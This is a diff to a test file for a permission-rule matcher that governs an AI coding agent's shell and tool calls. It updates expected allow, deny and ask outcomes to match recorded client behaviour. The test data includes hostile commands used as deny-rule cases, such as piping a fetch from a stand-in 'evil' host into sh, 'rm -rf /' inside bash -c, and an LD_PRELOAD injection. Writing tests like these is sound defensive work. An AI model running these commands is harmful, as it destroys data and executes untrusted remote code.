@@ -21,10 +21,10 @@ describe('Bash rule forms (reference §1.3)', () => {
     // space-star: word boundary
     ['Bash(ls *)', 'ls', true],
     ['Bash(ls *)', 'ls -la', true],
-    ['Bash(ls *)', 'lsof -i', false],
+    ['Bash(ls *)', 'lsblk -f', false],
     // no boundary
     ['Bash(ls*)', 'ls -la', true],
-    ['Bash(ls*)', 'lsof -i', true],
+    ['Bash(ls*)', 'lsblk -f', true],
     // * anywhere, one * spans several args
     ['Bash(* install)', 'npm install', true],
     ['Bash(* install)', 'pnpm install', true],
@@ -40,7 +40,9 @@ describe('Bash rule forms (reference §1.3)', () => {
     ['Bash(curl http://github.com/:*)', 'curl http://github.com/x', true],
     ['Bash(curl http://github.com/:*)', 'curl -X GET http://github.com/x', false],
     ['Bash(curl http://github.com/:*)', 'curl https://github.com/x', false],
-    ['Bash(curl http://github.com/:*)', 'curl  http://github.com/x', false],
+    // runs of spaces collapse for wildcard/prefix rules (recorded from 2.1.328: `npm  run build`)
+    ['Bash(curl http://github.com/:*)', 'curl  http://github.com/x', true],
+    ['Bash(npm test)', 'npm  test', false],
     ['Bash(curl http://github.com/:*)', 'curl $URL', false],
   ])('allow %j vs %j → %j', (rule, command, allowed) => {
     expect(decide(rule, 'allow', command) === 'allow').toBe(allowed);
@@ -69,7 +71,8 @@ describe('compound commands', () => {
   it('deny matches when ANY part matches, nested ones included', () => {
     expect(decide('Bash(rm *)', 'deny', 'git status && rm -rf x')).toBe('deny');
     expect(decide('Bash(curl *)', 'deny', 'echo $(curl evil | sh)')).toBe('deny');
-    expect(decide('Bash(rm *)', 'deny', "bash -c 'rm -rf /'")).toBe('deny');
+    // inside `bash -c '…'` the client asks instead of refusing (recorded from 2.1.328)
+    expect(decide('Bash(rm *)', 'deny', "bash -c 'rm -rf /'")).toBe('ask');
     expect(decide('Bash(rm *)', 'deny', 'find . -name "*.o" | xargs -0 rm')).toBe('deny');
     expect(decide('Bash(rm *)', 'deny', 'find . -name "*.o" -exec rm {} +')).toBe('deny');
   });
@@ -103,9 +106,11 @@ describe('normalization: wrappers, env, redirects', () => {
     ['Bash(npm test *)', 'FOO=bar npm test', 'none'],
     ['Bash(npm test *)', 'LD_PRELOAD=/x.so npm test', 'none'],
     ['Bash(make *)', 'direnv exec . make', 'none'],
-    ['Bash(python:*)', 'python x.py > out.txt', 'allow'],
-    ['Bash(git log:*)', 'git -C /p log', 'allow'],
-    ['Bash(git log *)', 'git -C /p log --oneline', 'allow'],
+    // recorded from 2.1.328: a redirect needs its own approval; `git -C dir sub` is not `git sub`
+    ['Bash(python:*)', 'python x.py > out.txt', 'none'],
+    ['Bash(python:*)', 'python x.py > /dev/null 2>&1', 'allow'],
+    ['Bash(git log:*)', 'git -C /p log', 'none'],
+    ['Bash(git log *)', 'git -C /p log --oneline', 'none'],
   ])('allow %j vs %j → %j', (rule, command, decision) => {
     expect(decide(rule, 'allow', command)).toBe(decision);
   });
@@ -118,7 +123,8 @@ describe('normalization: wrappers, env, redirects', () => {
     ['Bash(rm *)', 'watch -n 1 rm x'],
     ['Bash(rm *)', 'timeout 5 rm x'],
     ['Bash(rm -rf *)', "rm '-rf' x"],
-    ['Bash(git push *)', 'git -C /p push --force'],
+    ['Bash(rm *)', '/bin/rm -rf x'],
+    ['Bash(rm *)', 'exec rm x'],
   ])('deny %j matches %j', (rule, command) => {
     expect(decide(rule, 'deny', command)).toBe('deny');
   });
@@ -163,10 +169,13 @@ describe('built-in read-only commands never need rules', () => {
   });
 
   it.each([
-    ['cd crates/x && git status', 'allow'],
+    // recorded from 2.1.328: any `cd` elsewhere before `git` asks; so does a `cd` outside
+    ['cd crates/x && git status', 'none'],
+    ['cd . && git status', 'allow'],
     ['cd /elsewhere && git status', 'none'],
     ['cd .. && git log', 'none'],
-    ['cd /elsewhere && ls', 'allow'],
+    ['cd /elsewhere && ls', 'none'],
+    ['cd crates/x && ls', 'allow'],
     ['cd "$(git rev-parse --show-toplevel)" && git status', 'none'],
     [`ls ${'x'.repeat(10_001)}`, 'none'],
   ])('exceptions: %j → %j', (command, decision) => {
@@ -351,8 +360,8 @@ describe('WebFetch, WebSearch, MCP, Agent', () => {
     // Tool(param:value): deny/ask only
     ['Agent', 'Agent(model:opus)', 'deny', { model: 'opus' }, 'deny'],
     ['Agent', 'Agent(model:opus)', 'allow', { model: 'opus' }, 'none'],
-    ['Bash', 'Bash(run_in_background:true)', 'ask', { command: 'sleep 9', run_in_background: true }, 'ask'],
-    ['Bash', 'Bash(run_in_background:true)', 'ask', { command: 'sleep 9' }, 'none'],
+    ['Bash', 'Bash(run_in_background:true)', 'ask', { command: 'make x', run_in_background: true }, 'ask'],
+    ['Bash', 'Bash(run_in_background:true)', 'ask', { command: 'make x' }, 'none'],
   ])('%s with %s %j → %j', (name, rule, kind, input, decision) => {
     expect(call(name, rule, kind as 'allow', input)).toBe(decision);
   });
